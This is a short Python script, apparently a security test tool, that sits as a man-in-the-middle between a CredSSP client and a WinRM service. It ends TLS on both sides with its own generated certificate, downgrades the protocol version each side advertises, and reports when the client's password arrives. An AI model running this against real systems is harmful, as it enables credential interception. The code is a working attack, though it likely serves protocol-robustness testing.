"""Somebody between a client and a service, who ends the TLS inside CredSSP on both sides with a key of his own.

What is in there he passes on as it is, except that he says of both sides that they speak no newer version than `--version`. Prints
`listening URL`, and a line for whatever he sees.
"""

import argparse
import base64
import http.client
import http.server
import ssl
import tempfile
import urllib.parse

import spnego.tls
from spnego._credssp_structures import TSRequest

parser = argparse.ArgumentParser()
parser.add_argument("--service", required=True, help="the URL of the real one")
parser.add_argument("--version", type=int, default=6)
args = parser.parse_args()

CERTIFICATE, KEY, _ = spnego.tls.generate_tls_certificate()


def say(*words):
    print(*words, flush=True)


class Side:
    """TLS with one of the two."""

    def __init__(self, usage):
        context = spnego.tls.default_tls_context(usage=usage).context
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        if usage == "accept":
            with tempfile.NamedTemporaryFile() as file:
                file.write(CERTIFICATE + KEY)
                file.flush()
                context.load_cert_chain(file.name)
        self.received, self.sent = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.received, self.sent, server_side=usage == "accept")
        self.done = False

    def handshake(self, token):
        self.received.write(token)
        try:
            self.tls.do_handshake()
            self.done = True
        except ssl.SSLWantReadError:
            pass
        return self.sent.read()

    def read(self, token):
        self.received.write(token)
        request = TSRequest.unpack(self.tls.read())
        request.version = min(request.version, args.version)
        return request

    def write(self, request):
        self.tls.write(request.pack())
        return self.sent.read()


class Handler(http.server.BaseHTTPRequestHandler):
    """One for each connection."""

    protocol_version = "HTTP/1.1"

    def setup(self):
        super().setup()
        parts = urllib.parse.urlsplit(args.service)
        self.service = http.client.HTTPConnection(parts.hostname, parts.port, timeout=20)
        self.client, self.server = Side("accept"), Side("initiate")

    def log_message(self, *_):
        pass

    def ask(self, token):
        """A token to the service, and its own."""
        self.service.request("POST", "/wsman", b"", {"Authorization": f"CredSSP {base64.b64encode(token).decode()}"})
        answer = self.service.getresponse()
        answer.read()
        scheme, _, data = (answer.headers["WWW-Authenticate"] or "").partition(" ")
        return answer.status, base64.b64decode(data) if scheme == "CredSSP" and data else None

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        token = base64.b64decode(self.headers.get("Authorization", "").partition(" ")[2])
        if not self.client.done:
            return self.reply(401, self.client.handshake(token))
        answer = b""
        while not self.server.done:
            flight = self.server.handshake(answer)
            if flight:
                _, answer = self.ask(flight)
        request = self.client.read(token)
        if request.pub_key_auth:
            say("proof passed on, version", request.version)
        if request.auth_info:
            say("password received")
        status, answer = self.ask(self.server.write(request))
        say("service", status, "with" if answer else "without", "token")
        if answer is None:
            return self.reply(status)
        answer = self.server.read(answer)
        if answer.error_code is not None:
            say(f"service says {answer.error_code & 0xFFFFFFFF:#010x}")
        return self.reply(status, self.client.write(answer))

    def reply(self, status, token=None):
        self.send_response(status)
        self.send_header("WWW-Authenticate", f"CredSSP {base64.b64encode(token).decode()}" if token else "CredSSP")
        self.send_header("Content-Length", "0")
        self.end_headers()


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
server.daemon_threads = True
say(f"listening http://127.0.0.1:{server.server_address[1]}/wsman")
server.serve_forever()
